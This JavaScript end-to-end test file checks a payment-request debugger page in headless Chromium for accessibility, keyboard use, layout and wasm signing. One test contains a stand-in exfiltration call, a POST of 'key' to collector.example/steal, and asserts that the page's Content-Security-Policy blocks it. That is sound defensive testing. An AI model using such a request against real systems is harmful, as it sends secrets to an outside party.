// E2E, quality of the debugger page in headless Chromium: UTF-8 and labelled
// controls, keyboard use, no horizontal scroll at phone width, and
// screenshots at desktop (1366×850) and phone (390×844) sizes written to
// test-results/ for a person to look at.
import assert from 'node:assert/strict';
import path from 'node:path';
import { describe, test } from 'node:test';
import { headerLines, openPage, pkg, readKey, readVector, root, screenshot, settle, useServerAndBrowser } from './helpers.mjs';

const e2e = useServerAndBrowser();

const { withPage } = e2e;

const DESKTOP = { width: 1366, height: 850 };
const PHONE = { width: 390, height: 844 };

/** Elements sticking out of the viewport on the right (what causes horizontal scroll). */
const overflowing = (page) =>
  page.evaluate(() => {
    const width = document.documentElement.clientWidth;
    const out = [];
    for (const node of document.querySelectorAll('body *')) {
      const box = node.getBoundingClientRect();
      if (box.width && box.right > width + 0.5 && !node.closest('.offscreen')) out.push(`${node.tagName.toLowerCase()}#${node.id}.${node.className} right=${Math.round(box.right)}`);
    }
    return { scrollWidth: document.documentElement.scrollWidth, width, out: out.slice(0, 10) };
  });

/** Puts every tool in a telling state: an amount error, a signed request, a diagnosed callback. */
async function fillEverything(page) {
  await page.fill('#b-amount', '1.005');
  await page.click('#b-more-p2p summary');
  await page.fill('#b-sender-holder', 'Иван Петров');
  await page.fill('#s-key', readKey('rsa2048.pkcs8.pem'));
  await page.fill('#s-timestamp', '1700000000');
  const valid = readVector('callbacks.json').cases.find((c) => c.expect === 'ok');
  const body = JSON.parse(valid.body);
  body.payment_info.is_test = true;
  body.recipient_requisites.card_holder = 'ИВАН ПЕТРОВ';
  const signed = pkg.signRequest(JSON.stringify(body), pkg.SigningKey.fromPem(readKey('rsa2048.pkcs8.pem')), {
    merchantId: 'merchant-1',
    timestamp: 1700000000,
    options: { booleans: 'digit' },
  });
  await page.fill('#c-body', signed.body);
  await page.fill('#c-headers', headerLines(signed.headers));
  await page.fill('#c-key', readKey('rsa2048.public.pem'));
  await settle(page);
  await page.click('#c-diagnose');
  await page.waitForSelector('#c-diagnosis:not([hidden])');
  await page.waitForSelector('#s-verdict.good');
  await page.evaluate(() => window.scrollTo(0, 0));
}

describe('page quality', () => {
  test('UTF-8, one module script, every control labelled, unique ids', () =>
    withPage(async ({ page }) => {
      const facts = await page.evaluate(() => ({
        charset: document.characterSet,
        metaCharset: document.querySelector('head > meta:first-of-type')?.getAttribute('charset'),
        moduleScripts: [...document.scripts].map((s) => `${s.type} ${s.getAttribute('src')}`),
        unlabelled: [...document.querySelectorAll('input, select, textarea')].filter((e) => !e.labels.length).map((e) => e.id || e.outerHTML),
        danglingLabels: [...document.querySelectorAll('label[for]')].filter((l) => !document.getElementById(l.htmlFor)).map((l) => l.htmlFor),
        namelessButtons: [...document.querySelectorAll('button')].filter((b) => !b.textContent.trim()).length,
        duplicateIds: [...document.querySelectorAll('[id]')].map((e) => e.id).filter((id, i, all) => all.indexOf(id) !== i),
        inlineHandlers: [...document.querySelectorAll('*')].filter((e) => [...e.attributes].some((a) => a.name.startsWith('on'))).length,
      }));
      assert.equal(facts.charset, 'UTF-8');
      assert.equal(facts.metaCharset, 'utf-8');
      assert.deepEqual(facts.moduleScripts, ['module app.js']);
      assert.deepEqual(facts.unlabelled, []);
      assert.deepEqual(facts.danglingLabels, []);
      assert.equal(facts.namelessButtons, 0);
      assert.deepEqual(facts.duplicateIds, []);
      assert.equal(facts.inlineHandlers, 0);
    }));

  test('the Content-Security-Policy stops the page from sending anything to another origin', () =>
    withPage(async ({ page, problems }) => {
      const outcome = await page.evaluate(() =>
        fetch('https://collector.example/steal', { method: 'POST', body: 'key' }).then(() => 'sent', () => 'blocked'),
      );
      assert.equal(outcome, 'blocked');
      // The browser reports the refused request; that report is expected here, and nothing else.
      const reports = problems.splice(0);
      assert.ok(reports.length > 0 && reports.every((p) => /Content Security Policy|collector\.example/.test(p)), reports.join('\n'));
    }));

  test('keyboard: Tab reaches every tool, arrows switch the operation, Enter opens sections and presses buttons', () =>
    withPage(async ({ page }) => {
      const reached = new Set();
      await page.focus('#b-kind-p2p');
      for (let i = 0; i < 80; i++) {
        await page.keyboard.press('Tab');
        reached.add(await page.evaluate(() => document.activeElement.id || document.activeElement.tagName.toLowerCase()));
      }
      for (const id of ['b-country', 'b-method', 'b-amount', 'b-email', 's-body', 's-key', 's-generate', 's-booleans', 's-padding', 'c-body', 'c-headers', 'c-key', 'c-sample']) {
        assert.ok(reached.has(id), `Tab reaches #${id}`);
      }

      await page.focus('#b-kind-p2p');
      await page.keyboard.press('ArrowRight');
      assert.ok(await page.isChecked('#b-kind-widget'));
      await settle(page);
      assert.equal(await page.locator('#b-path').textContent(), '/api/v1/widget/payin');
      assert.match(await page.locator('#b-verdict').textContent(), /widget\/payin/);

      await page.focus('#b-more summary');
      await page.keyboard.press('Enter');
      assert.equal(await page.getAttribute('#b-more', 'open'), '');

      await page.focus('#s-generate');
      await page.keyboard.press('Enter');
      await page.waitForSelector('#s-verdict.good', { timeout: 30_000 });

      // Copy buttons work from the keyboard and copy the exact text shown.
      await page.context().grantPermissions(['clipboard-read', 'clipboard-write'], { origin: e2e.server.origin });
      await page.focus('button[data-copy="s-curl"]');
      await page.keyboard.press('Enter');
      await page.waitForFunction(() => document.querySelector('button[data-copy="s-curl"]').textContent === 'Copied ✓');
      assert.equal(await page.evaluate(() => navigator.clipboard.readText()), await page.locator('#s-curl').textContent());
    }));

  for (const [name, viewport] of [['desktop', DESKTOP], ['phone', PHONE]]) {
    test(`${name} ${viewport.width}×${viewport.height}: no horizontal scroll; screenshots in test-results/`, () =>
      withPage(async ({ page }) => {
        let layout = await overflowing(page);
        assert.ok(layout.scrollWidth <= layout.width, `horizontal scroll when empty: ${JSON.stringify(layout)}`);
        await fillEverything(page);
        layout = await overflowing(page);
        assert.ok(layout.scrollWidth <= layout.width, `horizontal scroll when filled: ${JSON.stringify(layout)}`);
        assert.deepEqual(layout.out, []);
        await screenshot(page, `${name}-viewport`, { fullPage: false });
        await screenshot(page, `${name}-full`);
        for (const section of ['build', 'sign', 'check']) await screenshot(page, `${name}-${section}`, { selector: `#${section}` });
      }, viewport));
  }
});

describe('the page served by `payment-intake debugger` from the package', () => {
  test('loads its wasm in Chromium and signs, with no error and nothing fetched from elsewhere', async () => {
    const { spawn } = await import('node:child_process');
    const cli = spawn(process.execPath, [path.join(root, 'pkg', 'cli.js'), 'debugger', '--port', '0'], { stdio: ['ignore', 'pipe', 'pipe'] });
    try {
      const url = await new Promise((resolve, reject) => {
        let out = '';
        cli.stdout.on('data', (chunk) => {
          out += chunk;
          const found = out.match(/http:\/\/[^\s]+\/www\//);
          if (found) resolve(found[0]);
        });
        cli.on('exit', (code) => reject(new Error(`debugger exited with ${code}: ${out}`)));
        setTimeout(() => reject(new Error(`no URL line in 10 s: ${out}`)), 10_000);
      });
      const session = await openPage(e2e.browser, new URL(url).origin);
      try {
        await session.page.click('#s-generate');
        await session.page.waitForFunction(() => /generated in this page/.test(document.querySelector('#s-key-info').textContent), null, { timeout: 30_000 });
        await session.page.waitForFunction(() => document.querySelector('#s-headers')?.textContent.includes('x-access-signature'), null, { timeout: 10_000 });
        session.assertClean();
      } finally {
        await session.close();
      }
    } finally {
      cli.kill('SIGTERM');
    }
  });
});
